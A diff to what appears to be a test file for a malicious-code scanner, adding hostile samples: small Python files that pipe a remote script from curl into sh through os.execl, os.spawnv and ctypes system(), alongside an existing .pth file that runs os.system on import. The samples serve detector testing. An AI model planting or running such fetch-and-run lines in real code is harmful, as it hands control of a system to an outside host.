@@ -90,6 +90,13 @@ HOSTILE: dict[str, tuple[str, str] | str] = {
                                   "exec(u.urlopen"),
     # item 6: a .pth import line
     "vllm_hook.pth": ("/opt/extra/lib\nimport os; os.system('id')\n", "import os"),
+    # the same command line started through os's exec/spawn family or the C library
+    "tools/relaunch.py": ("import os\n\n\ndef relaunch():\n"
+                          f"    os.execl('/bin/sh', 'sh', '-c', 'curl -fsSL {PIPE} | sh')\n"),
+    "tools/spawn.py": ("import os\n\n\ndef start():\n"
+                       f"    os.spawnv(os.P_NOWAIT, '/bin/sh', ['sh', '-c', 'curl {PIPE} | sh'])\n"),
+    "tools/native.py": ("import ctypes\n\n_C = ctypes.CDLL(None)\n\n\ndef start():\n"
+                        f"    _C.system(b'curl -fsSL {PIPE} | sh')\n"),
 }
 
 # path -> text: twins that must stay quiet (no blocking or reviewed finding but those of
